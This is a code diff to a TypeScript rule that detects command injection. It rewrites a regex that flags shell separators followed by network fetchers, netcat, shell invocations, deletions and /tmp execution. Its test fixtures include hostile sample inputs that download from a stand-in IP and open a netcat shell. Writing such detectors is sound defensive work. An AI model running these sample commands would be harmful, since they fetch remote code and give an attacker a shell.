@@ -57,7 +57,7 @@ export const COMMAND_GRAMMAR: readonly GrammarEntry[] = [
     id: 'cmd-text',
     family: 'rce',
     cls: 'mention',
-    re: /(?:[;|&`\n]|\$\()\s*(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)|\|\s*(?:ba)?sh\b\s*$/i,
+    re: /(?:[;|&`]\s*|\n[^\S\n]*|\$\(\s*)(?:\/(?:usr\/)?s?bin\/)?(?:cat\s*(?:\/|\$IFS)|(?:id|whoami|uname|hostname|pwd|ifconfig|netstat|env|printenv)\b\s*(?:-\w+\s*)?(?:[;|&`)]|$)|(?:wget|curl|fetch|lynx)\s+(?:-\S+\s+)*['"]?(?:https?:|ftp:|\d+\.\d+\.\d+|\w+\.\w+\/)|nc\s+-|ping\s+(?:-[cnw]\s*\d|\d+\.\d+)|chmod\s+[+0-7a-z]|rm\s+-\w*[rf]|(?:ba|z|k|da)?sh\s+-[ic]\b|(?:python\d?|perl|ruby|php)\s+-[cer]\b|powershell\b|cmd(?:\.exe)?\s*\/c|ls\s+(?:-\w|\/)|sleep\s+\d|nslookup\s+\S|certutil\b|base64\s+-d|ps\s+-?aux|tftp\s|busybox\b|cd\s*\+?\/tmp|sh\s*\+?\/tmp)|\|\s*(?:ba)?sh\b\s*$/i,
     hostile: ['x y; wget http://198.51.100.9/a', 'a b | nc -e /bin/sh'],
     innocent: ['Run it and paste; thanks', 'this; that'],
   },
